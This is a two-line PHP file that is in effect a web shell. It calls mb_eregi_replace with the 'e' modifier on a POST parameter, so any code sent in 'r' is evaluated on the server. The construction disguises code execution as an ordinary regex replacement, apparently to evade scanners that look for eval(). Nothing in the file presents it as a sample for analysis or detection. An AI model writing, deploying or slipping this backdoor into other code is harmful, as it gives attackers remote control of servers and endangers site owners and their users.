<?php
mb_eregi_replace('.*', $_POST['r'], 'seed', 'e');
